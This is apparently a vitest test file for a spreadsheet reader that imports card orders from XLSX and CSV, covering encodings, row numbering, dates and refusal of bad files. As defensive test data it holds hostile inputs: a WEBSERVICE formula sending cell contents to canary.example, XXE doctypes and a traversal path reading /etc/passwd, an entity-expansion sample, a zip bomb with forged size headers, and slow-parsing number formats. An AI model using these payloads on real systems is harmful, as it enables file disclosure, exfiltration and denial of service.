import { buffer } from 'node:stream/consumers';
import { maximumOrdersPerCall, maximumSheetBytes } from '@siteid/contract';
import { describe, expect, test } from 'vitest';
import { portalText } from '../messages/catalogue.ts';
import { readSheet } from './read-sheet.ts';
import type { Cell } from './sheet.ts';
import { fileOf } from './sheet-file.ts';
import { zipOf } from './zip.ts';

const always = async () => true;

const headings = ['given_names', 'date_of_birth'];
const columns = headings.map((heading) => ({ heading, width: 20 }));
const workbook = (rows: readonly (readonly Cell[])[]) => buffer(fileOf({ name: 'Cards', columns, rows }, 'xlsx', always).content);
const recordsOf = async (file: Buffer) => {
  const table = await readSheet(file);
  return 'reason' in table ? table : [table.header, ...table.rows].map(({ record, line }) => [line, ...record]);
};
const reasonOf = async (file: Buffer) => {
  const table = await readSheet(file);
  if (!('reason' in table)) return null;
  // Throws where the words are missing, or name what the refusal does not say.
  portalText('en', `orderCards.file.${table.reason}`, { ...table.values, line: table.line });
  return table.reason;
};

/** A workbook as other programs write it, of these parts. */
async function packed(sheet: string, parts: Readonly<Record<string, string>> = {}): Promise<Buffer> {
  const all = {
    'xl/workbook.xml':
      '<workbook xmlns:r="r"><sheets><sheet name="Old" state="hidden" r:id="a"/><sheet name="New" r:id="b"/></sheets></workbook>',
    'xl/_rels/workbook.xml.rels':
      '<Relationships><Relationship Id="a" Target="worksheets/old.xml"/><Relationship Id="b" Target="/xl/worksheets/new.xml"/></Relationships>',
    'xl/worksheets/new.xml': sheet,
    ...parts,
  };
  const pieces = zipOf(Object.entries(all).map(([path, content]) => ({ path, content: [content] })));
  return Buffer.concat(await Array.fromAsync(pieces));
}
const row = (number: number, ...cells: readonly string[]) => `<row r="${number}">${cells.join('')}</row>`;
const sheetOf = (...rows: readonly string[]) => `<worksheet><sheetData>${rows.join('')}</sheetData></worksheet>`;
const inline = (place: string, text: string) => `<c r="${place}" t="inlineStr"><is><t>${text}</t></is></c>`;

describe('a spreadsheet', () => {
  test('is read as it was written, days as days, with the lines that a program shows [W-5-8]', async () => {
    const file = await workbook([
      ['Åsa', { day: '1993-07-15' }],
      [null, null],
      ['Bo & <Co>', null],
    ]);
    expect(await recordsOf(file)).toEqual([
      [1, ...headings],
      [2, 'Åsa', '1993-07-15'],
      [4, 'Bo & <Co>', ''],
    ]);
  });

  test('numbers its rows by their beginning, whatever lines a text has within [W-5-8]', async () => {
    const rows = [
      ['x', 'y'],
      ['Åsa', 'a\nb\nc'],
      ['Bo', 'd'],
    ];
    const csv = Buffer.from(rows.map((cells) => cells.map((cell) => `"${cell}"`).join(';')).join('\n'));
    const cells = (number: number, [first = '', second = '']: readonly string[]) =>
      row(number, inline(`A${number}`, first), inline(`B${number}`, second));
    const xlsx = await packed(sheetOf(...rows.map((each, at) => cells(at + 1, each))));
    expect((await recordsOf(csv)) as unknown[][]).toEqual([
      [1, 'x', 'y'],
      [2, 'Åsa', 'a\nb\nc'],
      [5, 'Bo', 'd'],
    ]);
    expect((await recordsOf(xlsx)) as unknown[][]).toEqual([
      [1, 'x', 'y'],
      [2, 'Åsa', 'a\nb\nc'],
      [3, 'Bo', 'd'],
    ]);
  });

  test('of another program is read too: shared texts, prefixes, gaps, long numbers; its first sheet that is to be seen [W-5-8]', async () => {
    const styles =
      '<styleSheet><numFmts><numFmt numFmtId="170" formatCode="d\\.m\\.yyyy"/><numFmt numFmtId="171" formatCode="0&quot;days&quot;"/></numFmts><cellXfs><xf numFmtId="0"/><xf numFmtId="170"/><xf numFmtId="171"/><xf numFmtId="14"/></cellXfs></styleSheet>';
    const texts =
      '<x:sst xmlns:x="m"><x:si><x:r><x:t>Given </x:t></x:r><x:r><x:t>names</x:t></x:r></x:si><x:si><x:t>名</x:t><x:rPh><x:t>na</x:t></x:rPh></x:si></x:sst>';
    const sheet = sheetOf(
      row(1, '<c r="A1" t="s"><v>0</v></c>', inline('C1', 'Number')),
      row(3, '<c r="A3" t="s"><v>1</v></c>', '<c r="B3" s="1"><v>34165.5</v></c>', '<c r="C3"><v>1.99307152380E11</v></c>'),
      row(4, '<c r="B4" s="2"><v>7</v></c>', '<c r="C4" s="3"><v>46348</v></c>', '<c r="D4" t="b"><v>1</v></c>'),
    );
    expect(await recordsOf(await packed(sheet, { 'xl/sharedStrings.xml': texts, 'xl/styles.xml': styles }))).toEqual([
      [1, 'Given names', '', 'Number'],
      [3, '名', '1993-07-15', '199307152380'],
      [4, '', '7', '2026-11-22', '1'],
    ]);
  });

  test('gives of a formula the value that was saved with it, and works nothing out [W-5-12]', async () => {
    const formula =
      '<c r="A2" t="str"><f>WEBSERVICE("http://canary.example/"&amp;A1)</f><v>saved</v></c><c r="B2"><f>1+1</f></c>';
    expect(await recordsOf(await packed(sheetOf(row(1, inline('A1', 'x')), `<row r="2">${formula}</row>`)))).toEqual([
      [1, 'x'],
      [2, 'saved', ''],
    ]);
  });

  test.each([
    ['UTF-8', Buffer.from('\uFEFFFörnamn;Ort\nÅsa;Luleå\n')],
    ['UTF-16 with tabs', Buffer.from('\uFEFFFörnamn\tOrt\nÅsa\tLuleå\n', 'utf16le')],
    ['UTF-16', Buffer.from('\uFEFFFörnamn;Ort\nÅsa;Luleå\n', 'utf16le')],
    ['the encoding of older programs', Buffer.from('F\u00f6rnamn;Ort\n\u00c5sa;Lule\u00e5\n', 'latin1')],
  ])('as CSV in %s is read [W-5-8]', async (_, file) => {
    expect(await recordsOf(file)).toEqual([
      [1, 'Förnamn', 'Ort'],
      [2, 'Åsa', 'Luleå'],
    ]);
  });
});

describe('what is no spreadsheet of orders', () => {
  test('is refused in words: a picture, an older workbook, a broken or empty archive, an archive of something else [W-5-12]', async () => {
    const whole = await workbook([['Åsa', null]]);
    for (const file of [
      Buffer.from('ffd8ffe000104a464946', 'hex'),
      Buffer.from('d0cf11e0a1b11ae1', 'hex'),
      whole.subarray(0, 300),
      Buffer.from('PK\u0005\u0006'),
      Buffer.concat(await Array.fromAsync(zipOf([{ path: 'word/document.xml', content: ['<a/>'] }]))),
      await packed('<worksheet><sheetData><row>'),
    ]) {
      expect(await reasonOf(file)).toBe('notASheet');
    }
    expect(await reasonOf(Buffer.alloc(0))).toBe('emptyFile');
    expect(await reasonOf(await packed(sheetOf(row(1, inline('A1', 'x')))))).toBe('emptyFile');
  });

  test('is refused where it names another file, or makes many letters of few, in whichever part [W-5-12]', async () => {
    const whole = sheetOf(row(1, inline('A1', 'x')), row(2, inline('A2', 'y')));
    const parts = { 'xl/sharedStrings.xml': '<sst/>', 'xl/styles.xml': '<styleSheet/>' };
    expect(await reasonOf(await packed(whole, parts))).toBe(null);
    // Nothing else is wrong with them: no part uses what its document type makes.
    for (const type of ['<!DOCTYPE w SYSTEM "file:///etc/passwd">', '<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa">]>']) {
      expect(await reasonOf(await packed(type + whole, parts))).toBe('notASheet');
      for (const [path, content] of Object.entries(parts))
        expect(await reasonOf(await packed(whole, { ...parts, [path]: type + content })), path).toBe('notASheet');
    }
    expect(await reasonOf(await packed(sheetOf(row(1, inline('A1', '&b;')), row(2, inline('A2', '&b;')))))).toBe('notASheet');
    const elsewhere = {
      'xl/_rels/workbook.xml.rels': '<R><Relationship Id="b" Target="../../../../etc/passwd" TargetMode="External"/></R>',
    };
    expect(await reasonOf(await packed(sheetOf(), elsewhere))).toBe('notASheet');
  });

  test('is refused where it is too large, packed or not, before it fills the memory [W-5-12]', async () => {
    expect(await reasonOf(Buffer.alloc(maximumSheetBytes + 1, 'a'))).toBe('sheetTooLarge');
    const before = process.memoryUsage().rss;
    const bomb = await packed(`<worksheet>${' '.repeat(100_000_000)}</worksheet>`);
    expect(bomb.length).toBeLessThan(maximumSheetBytes);
    expect(await reasonOf(bomb)).toBe('sheetTooLarge');
    // It says that it is small.
    const lying = Buffer.from(bomb);
    const directory = lying.lastIndexOf(Buffer.from('504b0102', 'hex'));
    for (
      let at = lying.indexOf(Buffer.from('504b0102', 'hex'));
      at <= directory;
      at = lying.indexOf(Buffer.from('504b0102', 'hex'), at + 4)
    ) {
      if (lying.readUInt32LE(at + 24) > 1_000_000) lying.writeUInt32LE(1000, at + 24);
      if (at === directory) break;
    }
    expect(['notASheet', 'sheetTooLarge']).toContain(await reasonOf(lying));
    expect(process.memoryUsage().rss - before).toBeLessThan(600_000_000);
  });

  test('is refused where no part is too large, but all of them are, or there are too many parts [W-5-12]', async () => {
    const whole = sheetOf(row(1, inline('A1', 'x')), row(2, inline('A2', 'y')));
    const filled = (text: string) => ({ texts: `<sst>${text}</sst>`, styles: `<styleSheet>${text}</styleSheet>` });
    for (const { texts, styles } of [filled(' '.repeat(20_000_000)), filled('<!--a-->'.repeat(300_000))]) {
      expect(await reasonOf(await packed(whole, { 'xl/sharedStrings.xml': texts }))).toBe(null);
      expect(await reasonOf(await packed(whole, { 'xl/styles.xml': styles }))).toBe(null);
      const both = { 'xl/sharedStrings.xml': texts, 'xl/styles.xml': styles };
      expect(await reasonOf(await packed(whole, both))).toBe('sheetTooLarge');
    }
    const others = (count: number) => Object.fromEntries(Array.from({ length: count }, (_, at) => [`xl/media/${at}.png`, '']));
    expect(await reasonOf(await packed(whole, others(900)))).toBe(null);
    expect(await reasonOf(await packed(whole, others(1000)))).toBe('sheetTooLarge');
    const shared = `<sst>${'<si><t/></si>'.repeat(100_001)}</sst>`;
    expect(await reasonOf(await packed(whole, { 'xl/sharedStrings.xml': shared }))).toBe('sheetTooLarge');
  });

  test('is refused as CSV where a line or a text in quotes is longer than any order [W-5-12]', async () => {
    const long = 'a'.repeat(70_000);
    expect(await readSheet(Buffer.from(`city;name\nx;y\n${long}\n`))).toMatchObject({ line: 3, reason: 'tooLong' });
    for (const end of ['', '";y\n'])
      expect(await reasonOf(Buffer.from(`city;name\n"${'a\n'.repeat(40_000)}${end}`))).toBe('unreadableQuotes');
  });

  test('is refused where it has more rows than one import, or texts without end [W-5-12]', async () => {
    const many = Array.from({ length: maximumOrdersPerCall + 1 }, () => ['Åsa', null]);
    expect(await reasonOf(await workbook(many))).toBe('tooManyRows');
    expect(await reasonOf(await workbook(many.slice(1)))).toBe(null);
    const empty = Array.from({ length: 20 * maximumOrdersPerCall }, (_, at) => `<row r="${at + 1}"/>`);
    expect(await reasonOf(await packed(sheetOf(...empty)))).toBe('tooManyRows');
    const texts = `<sst>${`<si><t>${'a'.repeat(1000)}</t></si>`.repeat(20_000)}</sst>`;
    expect(await reasonOf(await packed(sheetOf(), { 'xl/sharedStrings.xml': texts }))).toBe('sheetTooLarge');
  });

  test('keeps of a cell no more than tells that it is too long, and of a row no more than a sheet has columns [W-5-12]', async () => {
    const sheet = sheetOf(row(1, inline('A1', 'x')), row(2, inline('A2', 'a'.repeat(500_000)), inline('XFD2', 'far')));
    const table = await recordsOf(await packed(sheet));
    expect(JSON.stringify(table).length).toBeLessThan(100_000);
    expect(JSON.stringify(table)).not.toContain('far');
  });

  test('keeps as little of a text that many cells name, and numbers rows as they follow each other [W-5-12]', async () => {
    const texts = `<sst><si><t>${'a'.repeat(1_000_000)}</t></si></sst>`;
    const cells = Array.from({ length: 50 }, () => '<c t="s"><v>0</v></c>');
    const numbers = ['1', '1', '-7', 'x', '1e99', '9'];
    const sheet = sheetOf(...numbers.map((number) => `<row r="${number}">${cells.join('')}</row>`));
    const table = await readSheet(await packed(sheet, { 'xl/sharedStrings.xml': texts }));
    if ('reason' in table) throw new Error(table.reason);
    const lines = [table.header, ...table.rows];
    expect(lines.map(({ line }) => line)).toEqual([1, 2, 3, 4, 5, 9]);
    expect(Math.max(...lines.flatMap(({ record }) => record.map((text) => text.length)))).toBeLessThan(10_000);
  });

  test('takes no longer for formats that open and do not close [W-5-12]', async () => {
    const formats = `<numFmt numFmtId="170" formatCode="${'['.repeat(60_000)}"/>`.repeat(5);
    const sheet = sheetOf(row(1, inline('A1', 'x')), row(2, inline('A2', 'y')));
    const begun = performance.now();
    expect(await reasonOf(await packed(sheet, { 'xl/styles.xml': `<s><numFmts>${formats}</numFmts></s>` }))).toBe(null);
    expect(performance.now() - begun).toBeLessThan(1500);
  });
});
